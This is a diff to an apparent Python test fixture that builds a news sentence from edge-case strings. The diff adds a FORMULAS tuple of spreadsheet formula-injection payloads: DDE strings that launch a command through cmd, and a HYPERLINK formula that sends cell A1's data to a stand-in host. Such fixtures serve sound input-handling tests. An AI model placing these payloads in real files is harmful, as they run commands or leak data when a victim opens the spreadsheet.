@@ -43,6 +43,17 @@ WORDS = (
     "\u202e192\u202c terrorists, 5\u200b4, \ufeff12, \u2066 34 \u2069",
     "</div></mark></blockquote><!-- 54 --> &lt;b&gt; &#60;b&#62; {{54}} ${54} %(54)s",
 )
+FORMULAS = (
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://strangerscript.example/?"&A1,"54")',
+    "\t=1+1",
+    "＝1+1",
+)
+"""Words that a spreadsheet would reckon with or follow."""
+
 SENTENCE = "The ministry said that {} 54 PKK terrorists were neutralised in northern Iraq.\n"
 ARTICLE = "".join(SENTENCE.format(word) for word in WORDS)
 
